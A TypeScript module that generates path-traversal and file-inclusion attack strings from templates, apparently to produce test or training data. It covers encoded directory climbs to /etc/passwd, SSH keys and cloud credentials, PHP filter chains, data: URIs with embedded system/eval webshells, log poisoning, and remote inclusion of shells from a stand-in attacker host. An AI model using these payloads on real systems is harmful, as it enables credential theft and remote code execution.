import type { Rng } from '#models/rng.ts';
import {
  altered,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  text,
  type Part,
  type Write,
  words,
  write
} from '../template.ts';
import {
  ALPHANUMERIC,
  attackerHost,
  attackerUrl,
  base64,
  inventedWord,
  LOWER,
  lowerWord
} from '../vocabulary/shared.ts';
import { applicationFile, unixFile, webRoot, windowsFile } from '../vocabulary/systems.ts';

const anyFile = mostly([unixFile, 6], [windowsFile, 3], [applicationFile, 1.2]);
const extension = mostly(
  ['', 6],
  ['%00', 0.8],
  ['\u0000', 0.4],
  [text`%00.${words('jpg png html php pdf txt')}`, 0.7],
  [text`\u0000.${words('jpg png html php pdf txt')}`, 0.3],
  ['%2500', 0.1],
  ['%2500.html', 0.1],
  [text`.${words('jpg png html php')}`, 0.2],
  ['?', 0.2],
  ['#', 0.1],
  [';', 0.1],
  ['/.', 0.1],
  ['%0a', 0.1],
  ['%23', 0.1],
  ['\\0', 0.1],
  ['.%00', 0.1],
  [text`${repeat('/.', 4, 40)}`, 0.1],
  [text`?.${words('jpg php')}`, 0.1]
);
const start = mostly(
  ['', 8],
  ['/', 3],
  [text`/${lowerWord}/`, 1.2],
  [text`${lowerWord}/`, 0.7],
  ['./', 0.3],
  ['.', 0.2],
  [text`/${words('images static files download assets uploads css js img public cgi-bin icons scripts')}/`, 1.5],
  [text`${webRoot}/`, 0.5],
  [text`${words('file page path template doc include lang')}=`, 0.5],
  ['\\', 0.3],
  ['//', 0.2],
  ['c:', 0.1],
  [text`${lowerWord}.${words('php jpg txt pdf html')}/`, 0.3],
  [text`${integer(1, 999)}/`, 0.2]
);

/** The same climb over and over, then a file whose own slashes may follow the climb's style. */
function climbing(step: Part, separator: string, file: Part, steps: Part = integer(1, 12)): Write {
  return (rng) => {
    const climb = write(rng, step).repeat(Number(write(rng, steps)));
    const target = write(rng, file);
    return (
      write(rng, start) + climb + (rng.chance(0.7) ? target.replaceAll('/', separator) : target) + write(rng, extension)
    );
  };
}

const dot = [
  '%2e',
  '%252e',
  '%c0%ae',
  '%c0%2e',
  '%e0%40%ae',
  '%c0ae',
  '0x2e',
  '%u002e',
  '%uff0e',
  '%25c0%25ae',
  '%f0%80%80%ae',
  '%e0%80%ae',
  '%fc%80%80%80%80%ae',
  '%f8%80%80%80%ae',
  '%c0%6e',
  '%c0%5e',
  '%c0%ee',
  '%c0%fe',
  '%%32%65',
  '%%32%%65',
  '%25%32%65',
  '%c0.',
  '%00.',
  '\uff0e',
  '\u2024',
  '%32%65',
  '%ae',
  '\ufffd\ufffd',
  '\ufffd',
  '.\u0000',
  '&#46;',
  '\\u002e',
  '\\x2e',
  '?',
  '\ufffd.'
];
const slash = [
  '%2f',
  '%252f',
  '%c0%af',
  '%c0%2f',
  '%e0%80%af',
  '%c1%9c',
  '%c0%9v',
  '%c0%qf',
  '%c1%8s',
  '%c1%1c',
  '%c1%af',
  '%c1%pc',
  '0x2f',
  '0x5c',
  '%5c',
  '%255c',
  '%u2215',
  '%u2216',
  '%uefc8',
  '%uf025',
  '%uff0f',
  '%f0%80%80%af',
  '%f8%80%80%80%af',
  '%fc%80%80%80%80%af',
  '%bg%qf',
  '%c0%5c',
  '%%35%63',
  '%%35c',
  '%25%35%63',
  '%25c0%25af',
  '\uff0f',
  '\u2215',
  '\u2216',
  '\ufffd\ufffd',
  '\ufffd',
  '&#47;',
  '\\u002f',
  '\\x2f',
  '%af',
  '\ufffd?',
  '%fe',
  '/?'
];

/** Two dots and a slash, each in some encoding a lax decoder folds back. */
function encodedStep(rng: Rng): string {
  const oneDot = rng.chance(0.4) ? '.' : rng.pick(dot);
  const other = rng.chance(0.8) ? oneDot : rng.chance(0.5) ? '.' : rng.pick(dot);
  return oneDot + other + (rng.chance(0.3) ? rng.pick(['/', '\\']) : rng.pick(slash));
}
function encodedClimb(rng: Rng): string {
  const step = encodedStep(rng);
  const separator = rng.chance(0.6) ? step.slice(step.length - 3).replace(/^\.+/, '') : '/';
  const file = write(rng, anyFile);
  return (
    write(rng, start) +
    step.repeat(rng.int(1, 12)) +
    (rng.chance(0.6) ? file.replaceAll('/', separator) : file) +
    write(rng, extension)
  );
}

const nestedStep = words(
  '....// ....\\\\ ..././ ...\\.\\ .././ ..../ ....\\/ ..//./ ...// ..//..// .../ .....///// ..;/ ..;\\ ..\\;/ ....;/ ..;a=b/ .;/../ ..\\/ ..//  ..\\\\ .//..// ./../ .\\..\\ ..//./ ..|/ ..+/ .?/ .*/.*/ ...%2f/ ..%00/ ..%0d/ ..%5c/ ..%ff/ ..%01/ ..^/ ..~/ .%5c../ /%5c../ ..%2f./ ..\\./ /../ \\../ \\..\\ //..// \\\\..\\\\ ..../\\ ../\\ ..\\\\\\ ..///'
);
const wrapped = mostly(
  [text`/${unixFile}`, 6],
  [text`${words('c: C: d:')}${oneOf('/', '\\')}${windowsFile}`, 2],
  [applicationFile, 2],
  [text`../../${applicationFile}`, 1],
  ['index', 1],
  ['index.php', 1],
  [text`../${lowerWord}`, 1],
  [lowerWord, 0.5]
);

export const climbTemplates = family('path-traversal/climb', {
  unix: climbing('../', '/', unixFile),
  'unix-passwd': text`${start}${altered(integer(1, 16), (count) => '../'.repeat(Number(count)))}etc/passwd${extension}`,
  'unix-short': text`${oneOf('', '/', './', lowerWord, text`/${lowerWord}/`)}${altered(integer(1, 4), (count) => '../'.repeat(Number(count)))}${mostly([unixFile, 2], [applicationFile, 4], [text`${lowerWord}/${lowerWord}.${words('php conf ini key db log txt')}`, 1])}${extension}`,
  'unix-long': climbing('../', '/', anyFile, integer(12, 60)),
  'windows-slash': climbing('../', '/', windowsFile),
  'windows-backslash': climbing('..\\', '\\', windowsFile),
  'backslash-unix': climbing('..\\', '\\', unixFile),
  'mixed-slashes': text`${start}${repeat(words('../ ..\\ ..\\/ ..// ..\\\\ ../'), 2, 10)}${anyFile}${extension}`,
  'only-climbs': text`${start}${repeat('../', 2, 24)}${maybe('..')}`,
  'only-climbs-backslash': text`${start}${repeat('..\\', 2, 24)}${maybe('..')}`,
  'same-place-steps': text`${start}${repeat(oneOf('./', '.\\', '/./', '\\.\\', './../', './/', '/.\\'), 3, 60)}${maybe(repeat('../', 1, 9))}${maybe(anyFile, 0.7)}`,
  'application-file': climbing(words('../ ..\\ ..;/ ....// ..%2f ..%5c'), '/', applicationFile, integer(1, 6)),
  nested: climbing(nestedStep, '/', anyFile),
  'nested-many-kinds': text`${start}${repeat(nestedStep, 2, 8)}${anyFile}${extension}`,
  'slash-first': text`${altered(integer(1, 12), (count) => '/..'.repeat(Number(count)))}/${anyFile}${extension}`,
  'backslash-first': text`${altered(integer(1, 12), (count) => '\\..'.repeat(Number(count)))}\\${altered(anyFile, (file) => file.replaceAll('/', '\\'))}${extension}`,
  'encoded-step': encodedClimb,
  'percent-slash': climbing(
    words('..%2f ..%252f %2e%2e/ %2e%2e%2f .%2e/ ..%5c ..%255c %2e%2e%5c %2e./ %252e%252e%252f'),
    '%2f',
    anyFile
  ),
  'overlong-slash': climbing(
    words(
      '..%c0%af ..%c1%9c ..%e0%80%af ..%c0%9v ..%c0%qf ..%c1%8s ..%c1%1c ..%c1%af ..%bg%qf ..%u2215 ..%u2216 ..%uefc8 ..%uf025'
    ),
    '%c0%af',
    anyFile
  ),
  'overlong-dots': climbing(
    words(
      '%c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af %c0%2e%c0%2e/ %e0%80%ae%e0%80%ae/ %uff0e%uff0e/ %uff0e%uff0e%u2215 %c0%ae%c0%ae\\ %f0%80%80%ae%f0%80%80%ae/'
    ),
    '%c0%af',
    anyFile
  ),
  'decoded-badly': climbing(
    words(
      '\ufffd\ufffd/ ..\ufffd\ufffd \ufffd\ufffd\ufffd\ufffd/ ..\ufffd .\ufffd./ \uff0e\uff0e/ \uff0e\uff0e\uff0f ..\u2215 ..\u2216 ..\uff3c \u2025/ \ufe30/ \ufffd.\ufffd./ ..\ufffd? ..\ufffds .?.?'
    ),
    '\ufffd',
    anyFile
  ),
  'double-dots-only-url': text`/${lowerWord}/..${repeat(oneOf('/..', '%2f..', ';/..', '\\..'), 2, 9)}/${oneOf(anyFile, text`${words('admin manager console internal actuator')}/${lowerWord}`)}`,
  'proxy-confusion': text`/${lowerWord}${oneOf('/..;/', '/;/', '..;/', '/.;/', '/..%2f', '/..%5c', '/%2e%2e/', '/..//', ';/../')}${oneOf(text`${words('admin manager/html console host-manager actuator/env jmx-console server-status')}`, text`..;/${words('manager/html admin actuator/env')}`, applicationFile)}`,
  'after-real-file': text`${lowerWord}.${words('jpg png pdf txt php html')}/${repeat('../', 2, 9)}${anyFile}`,
  'after-parameter': text`${words('file=. page=. doc=. include=. path= /?f=')}${repeat(words('./ ../ ..\\ ./../'), 2, 9)}${anyFile}${extension}`,
  'in-a-name': text`${oneOf(text`${repeat('../', 1, 6)}${lowerWord}.${words('php jsp aspx sh py cgi phtml war exe')}`, text`${repeat('..\\', 1, 6)}${lowerWord}.${words('aspx asp bat exe')}`, text`${repeat('../', 2, 6)}${words('tmp var/www/html home/user/.ssh etc/cron.d')}/${lowerWord}`)}`,
  'archive-entry': text`${lowerWord}/${repeat('../', 2, 10)}${oneOf(text`root/.ssh/authorized_keys`, unixFile, text`var/spool/cron/${lowerWord}`)}`
});

const absolutePrefix = oneOf('/', '/', '/', '//', '///', '/./', '\\', '\\\\', 'file:///', '/%2e/', '/..');
export const absoluteTemplates = family('path-traversal/absolute', {
  unix: text`${absolutePrefix}${unixFile}${extension}`,
  'unix-extra-slashes': altered(text`/${unixFile}${extension}`, (path, rng) =>
    path.replaceAll('/', () => rng.pick(['/', '//', '/./', '///', '/.//']))
  ),
  'unix-circuit': text`/${words('etc var usr proc')}/${lowerWord}/../${oneOf('passwd', 'shadow', '../etc/passwd', '../proc/self/environ')}${extension}`,
  'windows-drive': altered(text`${words('c d C')}:/${windowsFile}`, (path, rng) =>
    rng.chance(0.6) ? path.replaceAll('/', rng.pick(['\\', '\\\\', '/'])) : path
  ),
  'windows-variable': altered(
    text`%${words('SYSTEMROOT WINDIR SYSTEMDRIVE USERPROFILE APPDATA')}%/${windowsFile}`,
    (path, rng) => path.replaceAll('/', rng.pick(['\\', '/']))
  ),
  unc: text`\\\\${oneOf(attackerHost, '127.0.0.1', 'localhost', '.', '?')}\\${oneOf('c$\\', 'admin$\\', 'share\\', 'c:\\', 'UNC\\')}${altered(windowsFile, (path) => path.replaceAll('/', '\\'))}`,
  'file-url': text`file:${words('/// // / ///// ////')}${oneOf(unixFile, text`c:/${windowsFile}`, text`localhost/${unixFile}`, text`c|/${windowsFile}`, text`${attackerHost}/${lowerWord}`)}`,
  'application-absolute': text`/${maybe(text`${lowerWord}/`)}${oneOf('WEB-INF/web.xml', 'META-INF/context.xml', 'WEB-INF/classes/db.properties', text`..;/WEB-INF/web.xml`, text`static/..%2f${applicationFile}`, text`.//WEB-INF/web.xml`, text`%57EB-INF/web.xml`)}${extension}`,
  wildcards: text`/${words('e?c/p?sswd e*c/p*d ???/passwd etc/pass?? e[t]c/p[a]sswd etc/{passwd,shadow} etc//passwd etc/./passwd //etc//passwd etc/passwd?a=b etc/passwd/. private/etc/passwd etc/passwd&')}${maybe(text`${words('# ; & ? ')}${lowerWord}`)}`,
  'home-tilde': text`~${maybe(inventedWord)}/.${words('ssh/id_rsa bash_history aws/credentials netrc profile')}`
});

const filter = oneOf(
  'convert.base64-encode',
  'string.rot13',
  'convert.iconv.utf-8.utf-16',
  'read=convert.base64-encode',
  'read=string.toupper|string.rot13',
  'zlib.deflate/convert.base64-encode',
  'convert.quoted-printable-encode',
  text`convert.iconv.${letters(ALPHANUMERIC, 4, 8)}.${letters(ALPHANUMERIC, 4, 8)}`,
  'write=convert.base64-decode',
  text`${repeat(text`convert.iconv.${words('UTF8 L1 CP1256 ISO2022KR UTF16 IBM869 CSIBM1161 SE2 8859_3 UCS2 L4')}.${words('UTF8 UTF7 CSISO2022KR UCS-2 UTF16LE MS936 UTF-32 SJIS ISO-IR-156 UTF-16BE')}`, 2, 12, '|')}|convert.base64-decode`
);
export const wrapperTemplates = family('path-traversal/wrapper', {
  'php-filter': text`${words('php PHP pHp Php')}://filter/${filter}/resource=${wrapped}${extension}`,
  'php-filter-chain': text`php://filter/${repeat(filter, 2, 5, '|')}/resource=${oneOf(wrapped, 'php://temp', 'data://,a')}`,
  'php-filter-fragment': text`${maybe('php://filter/')}${words('read write')}=${filter}/resource=${wrapped}`,
  'php-input': text`${words('php PHP')}://${words('input stdin fd/0 memory temp output')}${maybe(oneOf('%00', '?', text`&cmd=${words('id ls whoami')}`))}`,
  data: text`data:${oneOf('//text/plain', 'text/plain', '//text/html', '', 'application/x-httpd-php')}${oneOf(
    text`,<?php ${words('phpinfo system eval passthru exec')}(${oneOf('', "'id'", '$_GET[0]', "$_REQUEST['c']")});${maybe(' ?>')}`,
    altered(
      text`<?php ${words('system phpinfo eval passthru')}(${oneOf("$_GET['cmd']", "'id'", '')}); ?>`,
      (php) => `;base64,${base64(php)}`
    ),
    text`,<?=\`${words('id ls whoami')}\`?>`
  )}`,
  expect: text`expect://${words('id ls whoami uname pwd')}${maybe(text`%20${words('-la /etc')}`)}`,
  archives: text`${words('zip phar rar compress.zlib compress.bzip2 glob ogg ssh2.exec jar')}://${maybe('../')}${oneOf(text`${lowerWord}.${words('jpg zip phar png gz')}${maybe(text`${words('# %23 / !/')}${lowerWord}.php`)}`, text`/${unixFile}`, text`${attackerUrl}!/${lowerWord}`, text`/var/www/uploads/${lowerWord}.jpg/${lowerWord}.php`)}`,
  'log-poisoning': text`${repeat('../', 0, 9)}${oneOf('/', '')}${oneOf('var/log/apache2/access.log', 'var/log/nginx/access.log', 'proc/self/environ', 'var/log/auth.log', 'proc/self/fd/2', 'var/lib/php/sessions/sess_x', 'var/log/httpd/error_log', 'var/mail/www-data')}&${words('cmd c exec x')}=${words('id ls whoami pwd')}`,
  'remote-include': text`${oneOf('http://', 'https://', 'ftp://', 'HTTP://', 'hTtP://', '\\\\', '//')}${attackerHost}/${lowerWord}.${words('txt php gif jpg log inc')}${oneOf('?', '%00', '??', '?cmd=id', '%3f', '#', '?/', '?&', '\u0000', text`?${words('cmd c')}=${words('ls id pwd')}`)}`,
  'remote-shell-name': text`${oneOf('http', 'ftp', 'https')}://${attackerHost}/${words('shell cmd r57 c99 evil backdoor webshell r0x id pwn exploit')}.${words('txt php gif jpg asp')}${maybe(oneOf('?', '%00', '?cmd=id'))}`,
  'wrapper-with-climb': text`${words('file php zip phar')}://${oneOf('', 'filter/resource=')}${repeat('../', 2, 9)}${anyFile}`,
  'null-byte-session': text`${repeat('../', 2, 9)}${oneOf('tmp', 'var/tmp', 'var/lib/php5')}/sess_${letters(LOWER + '0123456789', 20, 32)}${extension}`,
  'java-protocols': text`${oneOf('netdoc', 'jar:file', 'classpath', 'file', 'gopher', 'url:file', 'local_file', 'resource')}:${oneOf('//', '///', '/', '')}${unixFile}${maybe('!/')}`,
  placeholder: text`${start}${altered(integer(2, 12), (count) => '../'.repeat(Number(count)))}${words('{FILE} {file} [file] <file> FUZZ')}${extension}`
});
